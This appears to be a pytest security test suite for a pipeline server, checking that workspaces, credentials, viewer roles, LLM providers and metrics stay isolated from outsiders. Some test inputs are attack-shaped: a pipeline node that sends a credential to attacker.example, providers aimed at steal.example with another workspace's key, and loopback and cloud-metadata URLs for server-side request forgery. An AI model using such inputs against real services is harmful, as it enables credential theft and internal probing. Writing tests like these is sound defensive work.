"""Workspaces kept apart, walked over every route of the OpenAPI document: an
outsider (Bea, owner of a workspace of her own) names the owner's ids in paths
and the owner's workspace, credentials, pipelines and executions in bodies, and
gets nothing of them and changes nothing of them. LLM providers are per
workspace (the server's are for server admins); /metrics needs its token or a
server admin."""
import json

import pytest

from conftest import OWNER, Server

BEA = {"email": "bea@example.com", "password": "another long password", "name": "Bea"}
VIC = {"email": "vic@example.com", "password": "a viewer's long password", "name": "Vic"}
A_WS = "ws_default"
A_SECRET = "sk-owner-secret-value"
PIPELINE = {"id": "a-plan", "name": "Owner's secret plan", "nodes": [
    {"id": "text", "type": "input_text", "config": {}},
    {"id": "out", "type": "template", "config": {"template": "plan: {{ text.text }}"}}],
    "edges": [{"source": "text", "target": "out"}]}


@pytest.fixture
def world(data_dir):
    """The owner's workspace with one of everything, and Bea signed in to her own."""
    server = Server(data_dir).start()  # the default address guard: no network allowed beyond public
    try:
        a = {}
        status, _, _ = server.put("/api/server/settings", {"allow_signup": True})
        assert status == 200
        status, session, _ = server.post("/api/auth/register", BEA, token=None)
        assert status == 201, session
        bea = session["access_token"]
        assert session["workspace"]["id"] != A_WS and session["user"]["server_admin"] is False

        status, _, _ = server.post("/api/pipelines", PIPELINE)
        assert status == 201
        status, run, _ = server.post("/api/pipelines/a-plan/run", {"text": "world domination"})
        assert status == 200, run
        a["execution"] = run["execution_id"]
        status, cred, _ = server.post("/api/credentials", {"name": "owner key", "kind": "bearer",
                                                          "data": {"token": A_SECRET}})
        a["credential"] = cred["id"]
        boundary = "weftboundary"
        upload = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"plan.txt\"\r\n"
                  f"Content-Type: text/plain\r\n\r\nworld domination\r\n--{boundary}--\r\n").encode()
        status, uploaded, _ = server.post("/api/files", raw=upload,
                                          headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
        assert status == 201, uploaded
        a["file"] = uploaded["files"][0]["id"]
        status, trigger, _ = server.post("/api/triggers", {"pipeline_id": "a-plan", "kind": "webhook"})
        assert status == 201, trigger
        a["trigger"] = trigger["id"]
        status, key, _ = server.post("/api/api-keys", {"name": "owner key", "scope": "full"})
        assert status == 201, key
        a["api_key"] = key["id"]
        status, invite, _ = server.post("/api/invites", {"role": "viewer"})
        assert status == 201, invite
        a["invite"] = invite["id"]
        # Carl is invited and has not answered: nobody else may answer for him.
        assert server.post("/api/members", {"email": "carl@example.com", "role": "viewer"})[0] == 202
        status, invites, _ = server.get("/api/invites")
        a["carl_invitation"] = next(i["id"] for i in invites["items"] if i.get("email") == "carl@example.com")
        # Vic joins as a viewer (a new address with a password joins at once).
        assert server.post("/api/members", dict(VIC, role="viewer"))[0] == 202
        status, session, _ = server.post("/api/auth/login", {"email": VIC["email"], "password": VIC["password"]},
                                         token=None)
        assert status == 200 and session["workspace"] == {"id": A_WS, "name": "Default", "role": "viewer"}
        a["viewer"] = session["access_token"]
        status, me, _ = server.get("/api/me")
        a["user"] = me["user"]["id"]
        assert me["user"]["server_admin"] is True, "the first account is a server admin"
        status, body, _ = server.put("/api/settings/providers", {"items": [
            {"name": "a-llm", "kind": "openai", "base_url": "https://llm.owner.example/v1",
             "credential": a["credential"]}]})
        assert status == 200, body
        yield server, bea, a
    finally:
        server.stop()


def snapshot(server):
    """Everything of the owner's workspace that an outsider must not change."""
    out = {}
    for path in ["/api/pipelines", "/api/credentials", "/api/api-keys", "/api/members", "/api/invites",
                 "/api/settings/providers", "/api/settings/runs", "/api/server/providers",
                 "/api/server/settings", "/api/triggers",
                 "/api/pipelines/a-plan", "/api/pipelines/a-plan/versions"]:
        status, body, _ = server.get(path)
        assert status == 200, (path, body)
        out[path] = body
    status, body, _ = server.get("/api/executions")
    out["executions"] = sorted((e["id"], e["status"]) for e in body["items"])
    for item in out["/api/api-keys"]["items"]:
        item.pop("last_used_at", None)
    return out


def markers(a):
    """What of the owner's an answer to Bea must never hold (ids Bea sent may come back as she sent them)."""
    return [A_SECRET, a["api_key"], a["invite"], "Owner's secret plan", "world domination", "llm.owner.example"]


def hostile_body(a):
    """Every field a body could use to point at another workspace or its things."""
    return {"workspace": A_WS, "workspace_id": A_WS, "owner": a["user"], "user_id": a["user"],
            "pipeline_id": "a-plan", "credential": a["credential"], "execution_id": a["execution"],
            "from_execution": a["execution"], "retry_of": a["execution"]}


BODIES = {  # a body each route would accept from its own workspace, plus the hostile fields
    ("post", "/api/pipelines"): {"id": "bea-plan", "nodes": [], "edges": []},
    ("post", "/api/pipelines/validate"): {"nodes": [], "edges": []},
    ("post", "/api/credentials"): {"name": "bea cred", "kind": "bearer", "data": {"token": "bea"}},
    ("post", "/api/api-keys"): {"name": "bea key", "scope": "run"},
    ("post", "/api/members"): {"email": "owner@example.com", "role": "viewer"},
    ("post", "/api/invites"): {"role": "viewer"},
    ("put", "/api/settings/providers"): {"items": []},
    ("put", "/api/settings/runs"): {"run_concurrency": 7},
    ("post", "/api/triggers"): {"kind": "webhook"},
    ("put", "/api/triggers/{id}"): {"enabled": False},
}


def owner_path(path, a):
    """The path with the owner's ids in it (someone else's invitation under /api/me)."""
    ids = {"user_id": a["user"], "version": "1", "name": "a-llm", "token": a["invite"],
           "id": (a["execution"] if path.startswith("/api/executions") else
                  a["credential"] if path.startswith("/api/credentials") else
                  a["api_key"] if path.startswith("/api/api-keys") else
                  a["invite"] if path.startswith("/api/invites") else
                  a["carl_invitation"] if path.startswith("/api/me/invitations") else
                  a["trigger"] if path.startswith("/api/triggers") else
                  a["file"] if path.startswith("/api/files") else "a-plan")}
    for name, value in ids.items():
        path = path.replace("{" + name + "}", value)
    return path


def walk(server, skip=lambda path: False):
    """(method, path pattern) of every operation in the OpenAPI document."""
    status, doc, _ = server.get("/api/openapi.json")
    assert status == 200
    return [(method, path) for path, operations in doc["paths"].items() for method in operations
            if path not in ("/api/ws", "/healthz", "/api/openapi.json") and not skip(path)]


def test_an_outsider_reaches_nothing_of_another_workspace_on_any_route(world):
    server, bea, a = world
    before = snapshot(server)
    walked = 0
    wrong = []
    for method, path in walk(server, skip=lambda path: path.startswith("/api/auth/")):
        concrete = owner_path(path, a)
        body = None
        if method in ("post", "put", "patch"):
            body = dict(BODIES.get((method, path), {}), **hostile_body(a))
        status, answer, _ = server.request(method.upper(), concrete, body, token=bea)
        walked += 1
        text = json.dumps(answer)
        names_a = concrete != path or path in ("/metrics",) or path.startswith("/api/server")
        if names_a and status not in (400, 403, 404, 409, 422):
            wrong.append((method, concrete, status, answer))
        elif status >= 500:
            wrong.append((method, concrete, status, answer))
        wrong.extend((method, concrete, marker) for marker in markers(a)
                     if marker in text and marker not in concrete)  # an id Bea sent may be named back
    assert walked >= 40
    assert wrong == [], "\n".join(str(w)[:300] for w in wrong)
    assert snapshot(server) == before


def test_the_sign_in_routes_never_land_an_outsider_in_another_workspace(world):
    server, bea, a = world
    before = snapshot(server)
    status, session, _ = server.post("/api/auth/login", {"email": BEA["email"], "password": BEA["password"]},
                                     token=None)
    assert status == 200
    fields = {"email": BEA["email"], "password": BEA["password"], "name": "Bea",
              "refresh_token": session["refresh_token"]}
    wrong = []
    walked = 0
    for method, path in walk(server, skip=lambda path: not path.startswith("/api/auth/")):
        concrete = owner_path(path, a)
        body = dict(fields, **hostile_body(a)) if method == "post" else None
        status, answer, _ = server.request(method.upper(), concrete, body, token=bea)
        walked += 1
        text = json.dumps(answer)
        lands = isinstance(answer, dict) and isinstance(answer.get("workspace"), dict) \
            and answer["workspace"].get("id") == A_WS
        if status >= 500 or lands:
            wrong.append((method, concrete, status, answer))
        wrong.extend((method, concrete, marker) for marker in markers(a) if marker in text)
    assert walked >= 8
    assert wrong == [], "\n".join(str(w)[:300] for w in wrong)
    # Named plainly: a login or a refresh asking for the owner's workspace is refused
    # (the walk's logout ended the first session).
    assert server.post("/api/auth/login", {"email": BEA["email"], "password": BEA["password"],
                                           "workspace": A_WS}, token=None)[0] == 403
    session = server.post("/api/auth/login", {"email": BEA["email"], "password": BEA["password"]}, token=None)[1]
    assert server.post("/api/auth/refresh", {"refresh_token": session["refresh_token"], "workspace": A_WS},
                       token=None)[0] == 403
    assert snapshot(server) == before


# What a viewer may do besides reading: run, and what concerns only themselves.
VIEWER_MAY = {("post", "/api/pipelines/{id}/run"), ("post", "/api/pipelines/{id}/test-run"),
              ("post", "/api/executions/{id}/cancel"), ("post", "/api/executions/{id}/retry"),
              ("post", "/api/pipelines/validate"), ("post", "/api/pipelines/{id}/validate"),
              ("post", "/api/me/password"), ("post", "/api/triggers/preview"),
              ("post", "/api/files"),  # uploads are for runs
              ("post", "/api/me/invitations/{id}/accept"), ("post", "/api/me/invitations/{id}/decline")}


def test_a_viewer_changes_nothing_but_runs(world):
    server, _, a = world
    before = snapshot(server)
    wrong = []
    public = ("/api/auth/", "/hooks/", "/api/forms/")  # anyone may; the token is the key
    for method, path in walk(server, skip=lambda path: path.startswith(public) or path == "/metrics"):
        if method in ("get", "head", "options") or (method, path) in VIEWER_MAY:
            continue
        concrete = owner_path(path, a)
        body = dict(BODIES.get((method, path), {}), **hostile_body(a)) if method in ("post", "put") else None
        status, answer, _ = server.request(method.upper(), concrete, body, token=a["viewer"])
        if status != 403:
            wrong.append((method, concrete, status, answer))
    assert wrong == [], "\n".join(str(w)[:300] for w in wrong)
    after = snapshot(server)
    assert {k: v for k, v in after.items() if k != "executions"} == \
        {k: v for k, v in before.items() if k != "executions"}


def test_a_run_limit_is_set_in_the_callers_workspace_only(world):
    server, bea, a = world
    status, body, _ = server.put("/api/settings/runs", {"run_concurrency": 7, "workspace": A_WS}, token=bea)
    assert status == 422 and body["error"]["details"][0]["pointer"] == "/workspace", body
    assert server.put("/api/settings/runs", {"run_concurrency": 7}, token=bea)[:2] == \
        (200, {"run_concurrency": 7})
    assert server.get("/api/settings/runs", token=bea)[1] == {"run_concurrency": 7}
    assert server.get("/api/settings/runs")[1] == {"run_concurrency": None}  # the owner's workspace
    assert server.put("/api/settings/runs", {"run_concurrency": 7}, token=a["viewer"])[0] == 403


def test_a_viewer_runs_the_published_version_but_not_a_draft(world):
    server, _, a = world
    draft = dict(PIPELINE, nodes=[{"id": "leak", "type": "http_request", "config": {
        "url": "https://attacker.example/collect", "credential": a["credential"]}}], edges=[])
    status, body, _ = server.post("/api/pipelines/a-plan/test-run?wait=false",
                                  {"document": draft}, token=a["viewer"])
    assert status == 403 and "draft" in body["error"]["message"], body
    status, body, _ = server.post("/api/pipelines/a-plan/test-run?wait=true",
                                  {"inputs": {"text": "hi"}}, token=a["viewer"])
    assert status in (200, 202), body


def test_a_provider_cannot_use_another_workspace_credential(world):
    server, bea, a = world
    # Finding 1: the body named the owner's workspace and credential.
    status, body, _ = server.put("/api/settings/providers", {"items": [
        {"name": "steal", "kind": "openai", "base_url": "https://steal.example/v1",
         "credential": a["credential"], "workspace": A_WS}]}, token=bea)
    assert status in (400, 422) and body["error"]["details"][0]["pointer"] == "/items/0/workspace", body
    status, body, _ = server.put("/api/settings/providers", {"items": [], "workspace": A_WS}, token=bea)
    assert status in (400, 422) and body["error"]["details"][0]["pointer"] == "/workspace", body
    status, body, _ = server.put("/api/settings/providers", {"items": [
        {"name": "steal", "kind": "openai", "base_url": "https://steal.example/v1",
         "credential": a["credential"]}]}, token=bea)
    assert status in (400, 422) and body["error"]["details"][0]["pointer"] == "/items/0/credential", body
    assert "no credential" in body["error"]["message"]
    # Bea sees the server's providers by name and kind, nothing of the owner's.
    status, body, _ = server.get("/api/settings/providers", token=bea)
    assert status == 200
    assert all(p["source"] == "server" and set(p) == {"name", "kind", "source"} for p in body["items"]), body
    assert "a-llm" not in json.dumps(body)


def test_one_workspace_providers_never_change_another(world):
    server, bea, a = world
    # Finding 2: Bea's PUT replaced every workspace's providers.
    status, body, _ = server.put("/api/settings/providers", {"items": [
        {"name": "ollama", "kind": "ollama", "base_url": "https://bea.example"}]}, token=bea)
    assert status == 200, body
    status, mine, _ = server.get("/api/settings/providers")
    assert [p["name"] for p in mine["items"] if p["source"] == "workspace"] == ["a-llm"]
    status, servers, _ = server.get("/api/server/providers")
    assert next(p for p in servers["items"] if p["name"] == "ollama")["base_url"] != "https://bea.example"
    # Server providers are for server admins only.
    for method, body in (("GET", None), ("PUT", {"items": []})):
        for path in ("/api/server/providers", "/api/server/settings"):
            status, answer, _ = server.request(method, path, body, token=bea)
            assert status == 403, (method, path, answer)
    # Bea's blocks cannot call the owner's provider by its name.
    llm = {"id": "bea-llm", "nodes": [
        {"id": "chat", "type": "llm_chat", "config": {"provider": "a-llm", "model": "m", "prompt": "hi"}}],
        "edges": []}
    status, body, _ = server.post("/api/pipelines", llm, token=bea)
    assert status == 201, body
    status, run, _ = server.post("/api/pipelines/bea-llm/run", {}, token=bea)
    assert run["status"] == "failed" and "no LLM provider is named `a-llm`" in json.dumps(run["error"]), run


@pytest.mark.parametrize("url", ["http://127.0.0.1:11434", "http://localhost:8080/v1", "http://[::1]:9/v1",
                                 "http://169.254.169.254/latest", "http://10.0.0.1/v1",
                                 "http://[::ffff:127.0.0.1]/v1"])
def test_a_workspace_provider_may_not_point_at_internal_addresses(world, url):
    server, bea, _ = world
    # Finding 4: any account reached loopback listeners and the metadata address.
    status, body, _ = server.put("/api/settings/providers", {"items": [
        {"name": "probe", "kind": "openai", "base_url": url}]}, token=bea)
    assert status in (400, 422) and body["error"]["code"] == "address_refused", body
    assert body["error"]["details"][0]["pointer"] == "/items/0/base_url"


def test_metrics_need_the_metrics_token_or_a_server_admin(world):
    server, bea, _ = world
    assert server.get("/metrics", token=None)[0] == 401
    assert server.get("/metrics", token=bea)[0] == 403
    status, text, _ = server.get("/metrics")
    assert status == 200 and "weft_" in text
    token = "prometheus-scrape-token-0123456789"
    status, body, _ = server.put("/api/server/settings", {"metrics_token": token})
    assert status == 200 and body == {"allow_signup": True, "metrics_token_set": True}
    assert token not in json.dumps(server.get("/api/server/settings")[1])
    status, text, _ = server.get("/metrics", token=token)
    assert status == 200 and "weft_" in text
    assert server.get("/metrics", token=token + "x")[0] == 401
    status, body, _ = server.put("/api/server/settings", {"metrics_token": None, "allow_signup": False})
    assert status == 200 and body == {"allow_signup": False, "metrics_token_set": False}
    assert server.get("/metrics", token=token)[0] == 401
    assert server.post("/api/auth/register", dict(BEA, email="carl@example.com"), token=None)[0] == 403
    status, body, _ = server.put("/api/server/settings", {"workspace": A_WS})
    assert status in (400, 422) and body["error"]["details"][0]["pointer"] == "/workspace"


def test_server_admins_come_from_the_first_account_or_the_command_line(data_dir):
    import subprocess
    from conftest import BINARY
    first = Server(data_dir).start()
    first.stop()
    created = subprocess.run([str(BINARY), "user", "create", "--data", str(data_dir), "--email", "ops@example.com",
                              "--password", "-", "--server-admin"], input="ops long password\n",
                             capture_output=True, text=True)
    assert created.returncode == 0 and "server admin" in created.stdout, created
    plain = subprocess.run([str(BINARY), "user", "create", "--data", str(data_dir), "--email", "dev@example.com",
                            "--password", "-"], input="dev long password\n", capture_output=True, text=True)
    assert plain.returncode == 0 and "server admin" not in plain.stdout
    server = Server(data_dir).start()
    try:
        for email, password, admin in (("ops@example.com", "ops long password", True),
                                       ("dev@example.com", "dev long password", False),
                                       (OWNER["email"], OWNER["password"], True)):
            status, session, _ = server.post("/api/auth/login", {"email": email, "password": password}, token=None)
            assert status == 200 and session["user"]["server_admin"] is admin, session
            status, _, _ = server.get("/api/server/settings", token=session["access_token"])
            assert status == (200 if admin else 403)
    finally:
        server.stop()
